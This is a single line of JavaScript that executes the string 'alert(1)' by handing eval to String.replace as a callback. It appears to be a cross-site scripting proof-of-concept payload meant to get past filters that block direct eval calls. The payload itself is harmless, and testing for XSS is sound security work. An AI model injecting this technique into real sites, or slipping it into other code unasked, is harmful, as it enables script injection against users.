'alert(1)'.replace(/.+/, eval);
